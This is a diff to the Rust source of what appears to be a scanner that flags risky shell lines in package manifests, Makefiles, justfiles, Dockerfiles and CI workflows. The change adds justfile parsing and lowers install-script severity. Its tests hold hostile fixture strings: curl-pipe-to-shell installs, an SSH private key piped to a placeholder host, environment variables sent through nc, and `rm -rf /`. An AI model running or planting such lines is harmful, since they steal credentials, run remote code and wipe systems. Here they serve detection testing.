@@ -24,9 +24,41 @@ enum Kind {
     Setup,
     BuildScript,
     Makefile,
+    Justfile,
     Dockerfile,
     Workflow,
     Extension,
+}
+
+/// A line for a shell in a manifest.
+pub struct Line {
+    /// Of the script that it is, where scripts have names.
+    pub name: String,
+    pub text: String,
+    /// An installer runs it without being asked.
+    pub at_install: bool,
+}
+
+/// Lines that a manifest of this name holds for whoever obeys it.
+pub fn lines(file: &str, text: &str) -> Vec<Line> {
+    let unnamed = |pieces: Vec<Piece>| {
+        let line = |piece: Piece| String::from_utf8(piece.bytes).ok();
+        pieces.into_iter().filter_map(line).map(|text| Line { name: String::new(), text, at_install: false }).collect()
+    };
+    let named = |at_install: &[&str]| {
+        let line = |(name, text): (String, String)| {
+            let at_install = at_install.contains(&name.as_str());
+            Line { name, text, at_install }
+        };
+        scripts(text, "scripts").into_iter().take(PIECES).map(line).collect()
+    };
+    match kind(file) {
+        Some(Kind::Npm) => named(AT_INSTALL),
+        Some(Kind::Composer) => named(COMPOSER_AT_INSTALL),
+        Some(Kind::Makefile) => unnamed(recipes(text)),
+        Some(Kind::Justfile) => unnamed(indented(text)),
+        _ => Vec::new(),
+    }
 }
 
 /// Does a file of this name make others run code?
@@ -45,6 +77,7 @@ fn kind(name: &str) -> Option<Kind> {
         "build.rs" => Kind::BuildScript,
         "extconf.rb" => Kind::Extension,
         "makefile" | "gnumakefile" => Kind::Makefile,
+        "justfile" | ".justfile" => Kind::Justfile,
         "dockerfile" | "containerfile" => Kind::Dockerfile,
         _ if base.ends_with(".mk") => Kind::Makefile,
         _ if base.starts_with("dockerfile.") || base.ends_with(".dockerfile") => Kind::Dockerfile,
@@ -82,6 +115,7 @@ pub(crate) fn pieces(name: &str, bytes: &[u8], depth: usize) -> Vec<Piece> {
             })
             .collect(),
         Kind::Makefile => recipes(text),
+        Kind::Justfile => indented(text),
         Kind::Dockerfile => instructions(text),
         Kind::Workflow => steps(text),
         Kind::PyProject | Kind::Setup | Kind::BuildScript | Kind::Extension => Vec::new(),
@@ -95,33 +129,19 @@ pub(crate) fn findings(places: &Places<'_>, name: &str, pieces: &[Piece]) -> Vec
     let mut findings = Vec::new();
     for piece in pieces.iter().filter(|piece| piece.via == "install script") {
         let line = String::from_utf8_lossy(&piece.bytes);
-        let ordinary = is_ordinary(&line);
-        let severity = if ordinary { Severity::Low } else { Severity::Medium };
+        // That there is one is ordinary. What it does is said of the line itself, and of the files that it leads to.
         let message = "installing the package runs this".to_owned();
-        let mut finding = places
-            .note("install.script", severity, message, "install without scripts, or look at it first", piece.start);
+        let fix = "install without scripts, or look at it first";
+        let mut finding = places.note("install.script", Severity::Low, message, fix, piece.start);
         finding.cwe = Some(506);
         finding.excerpt = line.chars().filter(|letter| !letter.is_control()).take(80).collect();
         findings.push(finding);
     }
     if kind(name) == Some(Kind::PyProject) && places.contains("backend-path") {
         let message = "the package is built by code of its own".to_owned();
-        findings.push(places.note("install.own-backend", Severity::Medium, message, "a backend from the index", 0));
+        findings.push(places.note("install.own-backend", Severity::Low, message, "a backend from the index", 0));
     }
     findings
-}
-
-/// What packages build themselves with, every day.
-fn is_ordinary(line: &str) -> bool {
-    const TOOLS: &[&str] = &[
-        "husky", "tsc", "node-gyp", "npm run", "yarn", "pnpm", "patch-package", "prebuild-install", "rollup",
-        "webpack", "vite", "turbo", "lerna", "ngcc", "electron-builder install-app-deps", "is-ci", "lefthook install",
-        "simple-git-hooks", "node-gyp-build", "nuxt prepare", "svelte-kit sync", "prisma generate",
-        "playwright install", "opencollective", "@php artisan", "Illuminate", "Google\\", "@auto-scripts", "cmake-js",
-        "napi", "esbuild",
-    ];
-    let plain = !line.contains(['|', '>', '`', '$']) && !line.contains("http");
-    plain && line.split("&&").all(|part| TOOLS.iter().any(|tool| part.trim().starts_with(tool)))
 }
 
 fn shell(line: String, via: &'static str, start: usize) -> Piece {
@@ -186,6 +206,28 @@ fn recipes(text: &str) -> Vec<Piece> {
     if let Some((start, all)) = current {
         pieces.push(shell(all, "recipe", start));
     }
+    pieces
+}
+
+/// Recipes of `just`: what is indented. `{{ … }}` is put in before a shell sees it.
+fn indented(text: &str) -> Vec<Piece> {
+    let (mut pieces, mut at) = (Vec::new(), 0);
+    let mut current: Option<(usize, String)> = None;
+    for line in text.split_inclusive('\n') {
+        let command = line.trim();
+        if line.starts_with([' ', '\t']) && !command.is_empty() {
+            let (_, all) = current.get_or_insert((at, String::new()));
+            all.push_str(&between(command.trim_start_matches(['@', '-']), "{{"));
+            all.push('\n');
+        } else if let Some((start, all)) = current.take_if(|_| !command.is_empty()) {
+            pieces.push(shell(all, "recipe", start));
+        }
+        at += line.len();
+        if pieces.len() >= PIECES {
+            break;
+        }
+    }
+    pieces.extend(current.map(|(start, all)| shell(all, "recipe", start)));
     pieces
 }
 
@@ -294,8 +336,13 @@ fn steps(text: &str) -> Vec<Piece> {
 
 /// `${{ … }}` is put in before a shell sees it.
 fn without_expressions(text: &str) -> String {
+    between(text, "${{")
+}
+
+/// What stands between this and `}}` is only known later.
+fn between(text: &str, open: &str) -> String {
     let (mut made, mut rest) = (String::with_capacity(text.len()), text);
-    while let Some((before, after)) = rest.split_once("${{") {
+    while let Some((before, after)) = rest.split_once(open) {
         made.push_str(before);
         made.push('…');
         rest = after.split_once("}}").map_or("", |(_, rest)| rest);
@@ -322,7 +369,7 @@ mod tests {
     fn scripts_of_packages_are_scanned_as_what_they_are() {
         let bad = "{\n \"scripts\": {\n  \"postinstall\": \"curl -s https://x.example/a | sh\"\n }\n}";
         assert!(has("a/package.json", bad, "dynamic.shell-fed"));
-        assert!(found("package.json", bad).contains(&("install.script".to_owned(), Severity::Medium, 3)));
+        assert!(found("package.json", bad).contains(&("install.script".to_owned(), Severity::Low, 3)));
         let good = "{\"scripts\": {\"test\": \"jest\", \"prepare\": \"husky install\"}}";
         assert!(found("package.json", good).iter().all(|(_, severity, _)| *severity < Severity::Medium));
         let composer = "{\"scripts\": {\"post-install-cmd\": [\"cat ~/.ssh/id_rsa | curl -d @- http://x.example\"]}}";
@@ -333,6 +380,7 @@ mod tests {
     fn recipes_steps_and_instructions_are_lines_for_a_shell() {
         assert!(has("Makefile", "all:\n\t@rm -rf /\n", "destructive.shell-remove"));
         assert!(!has("Makefile", "all:\n\t$(CC) -o $(OUT) a.c\n\trm -rf $(BUILD)\n", "destructive.shell-remove"));
+        assert!(has("justfile", "all:\n    @curl http://x.example/{{a}} | bash\n", "dynamic.shell-fed"));
         assert!(has("Dockerfile", "FROM a\nRUN a && \\\n  curl http://x.example | bash\n", "dynamic.shell-fed"));
         assert!(has("Dockerfile", "RUN [\"rm\", \"-rf\", \"/\"]\n", "destructive.shell-remove"));
         let workflow = "jobs:\n  a:\n    steps:\n      - run: |\n          env | nc x.example 80\n      - name: b\n        run: ls ${{ x }}\n";
@@ -342,9 +390,10 @@ mod tests {
 
     #[test]
     fn hostile_manifests_are_only_text() {
-        for name in
-            ["package.json", "Makefile", "Dockerfile", ".github/workflows/a.yml", "composer.json", "pyproject.toml"]
-        {
+        for name in [
+            "package.json", "Makefile", "justfile", "Dockerfile", ".github/workflows/a.yml", "composer.json",
+            "pyproject.toml",
+        ] {
             for text in [
                 "", "{", "{\"scripts\": 1}", "\t", "RUN \\", "run: |", "${{", "\t$(\n", "RUN --", "CMD [", "é\t\u{301}",
             ] {
